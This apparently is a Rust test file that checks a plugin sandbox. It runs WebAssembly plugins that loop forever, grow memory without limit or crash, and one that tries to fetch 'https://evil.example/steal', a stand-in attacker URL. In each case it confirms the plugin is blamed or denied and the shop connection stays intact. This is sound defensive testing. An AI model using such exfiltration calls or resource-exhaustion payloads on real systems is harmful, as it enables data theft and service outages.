//! Plugins that loop, eat memory, crash or ask for a host that they may not have: the run fails and says so, the plugin
//! is blamed, and what was there before stays (security.md PL-1, PL-2, PL-5).

use serde_json::Value;

use super::guest;
use crate::support::{Options, World};

/// Connects a shop whose provider has this plugin and waits for its first runs; gives the world and the runs.
async fn run(test: &str, more: &str, body: &str) -> (World, String, Vec<Value>) {
    let component = guest::component(more, body);
    let plugins = Some(guest::folder(test, &guest::manifest(), Some(&component)));
    let world = World::start(Options { plugins, ..Options::default() }).await;
    let integration = world.acme_integration().await;
    let connection = world.connect_acme(&integration, "merchant-1", "shop_north").await;
    let runs = world.synced(&connection).await;
    (world, connection, runs)
}

/// Asserts that a hostile plugin is blamed in words that contain these, and that nothing else came to harm.
async fn is_blamed(test: &str, more: &str, body: &str, words: &[&str]) {
    let (world, connection, runs) = run(test, more, body).await;
    assert_eq!(runs.len(), 2, "{runs:?}");
    for run in &runs {
        assert_eq!((run["state"].as_str(), run["error"]["blame"].as_str()), (Some("failed"), Some("plugin")), "{run}");
        let message = run["error"]["message"].as_str().unwrap();
        assert!(words.iter().all(|word| message.contains(word)), "{words:?} are not in: {message}");
    }
    // The connection is as it was: nobody asks its end user to connect again for a plugin's fault.
    let shown = world.key().get(&format!("/v1/connections/{connection}")).await.ok();
    assert_eq!(shown["health"]["state"], "active", "{shown}");
    world.key().get(&format!("/v1/connections/{connection}/credential")).await.ok();
    let request = world
        .key()
        .request(http::Method::GET, "/v1/proxy/v1/orders?limit=1")
        .header("patchbay-connection", &connection)
        .send()
        .await;
    request.ok();
    assert_eq!(world.anonymous().get("/readyz").await.status, 200);
    let kinds = world.one("SELECT count(*) FROM events WHERE kind = 'sync.failed'").await;
    assert_eq!(kinds, "2", "the tenant is told");
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pl_1_a_plugin_that_loops_is_ended() {
    is_blamed("loops", "", "(loop $on (br $on))", &["the plugin used more than", "endless loop"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pl_1_a_plugin_that_eats_memory_is_ended() {
    is_blamed(
        "eats",
        "",
        "(loop $on (drop (memory.grow (i32.const 1))) (br $on))",
        &["the plugin wanted", "bytes of memory", "allowed"],
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pl_1_a_plugin_that_crashes_says_where() {
    is_blamed("crashes", "(func $wobble unreachable)", "(call $wobble)", &["crashed", "wobble"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pl_2_a_plugin_that_asks_for_a_host_of_its_own_is_told_the_line_to_add() {
    let url = "https://evil.example/steal";
    let more = format!(r#"(data (i32.const 5000) "GET{url}")"#);
    // Fetches, fails if that was let through, and writes the fault's words into the run's log.
    let body = format!(
        "(call $fetch (i32.const 5000) (i32.const 3) (i32.const 5003) (i32.const {}) (i32.const 0) (i32.const 0)
            (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 7000))
        (if (i32.eqz (i32.load8_u (i32.const 7000))) (then unreachable))
        (if (i32.load8_u (i32.const 7004)) (then unreachable))
        (call $log (i32.const 2) (i32.load (i32.const 7008)) (i32.load (i32.const 7012)))",
        url.len()
    );
    let (world, _, runs) = run("host", &more, &body).await;
    for run in &runs {
        assert_eq!(run["state"], "succeeded", "a denial is an answer, no crash: {run}");
        let logs = world.key().get(&format!("/v1/runs/{}/logs", run["id"].as_str().unwrap())).await.ok();
        let text = logs["data"].to_string().replace("\\\"", "\"");
        assert!(text.contains("evil.example is not on the list"), "{text}");
        assert!(text.contains("Add `hosts = [\"evil.example\"]` under [api] in provider.toml"), "{text}");
    }
    world.end().await;
}
